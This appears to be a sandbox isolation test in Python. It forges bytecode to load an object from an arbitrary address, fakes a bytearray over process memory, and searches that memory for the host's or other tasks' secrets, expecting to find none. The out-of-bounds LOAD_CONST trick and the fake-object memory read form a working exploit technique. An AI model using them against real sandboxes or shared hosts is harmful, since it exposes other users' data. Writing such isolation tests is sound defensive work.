# The whole of memory, read through a forged bytearray, in search of what is the host's, or another task's.
#
# outcome: value {"found":[],"mine":true}
# time: <= timeout + 100ms
# host_rss: <= memory + 64MiB
# timeout: 5s
# mount: ro
import dis
import re
import struct


def f():
    return 1


def load(address):
    """The object at an address, whatever is there."""
    global holder
    holder = struct.pack("<I", address)
    index = (id(holder) + 16 - id(f.__code__.co_consts) - 12) // 4 & 0xFFFFFFFF
    op = dis.opmap
    code = [op["RESUME"], 0]
    for shift in (24, 16, 8):
        code += [op["EXTENDED_ARG"], index >> shift & 0xFF]
    code += [op["LOAD_CONST"], index & 0xFF, op["RETURN_VALUE"], 0]
    f.__code__ = f.__code__.replace(co_code=bytes(code))
    return f()


def run(params):
    marker = bytes(reversed(b"nwo ym yllaer"))
    top = bytes(1 << 20)  # which lies where the heap ends
    size = id(top)
    fake = struct.pack("<IIIIIII", 1000, id(bytearray), size, size + 1, 8, 8, 0)
    memory = load(id(fake) + 16)
    words = rb"the neighbour[']s secret", rb"canar[y] sings", rb"GOCACH[E]"  # which do not find themselves
    return {"found": [str(word) for word in words if re.search(word, memory)], "mine": marker and bool(re.search(rb"really my ow[n]", memory))}
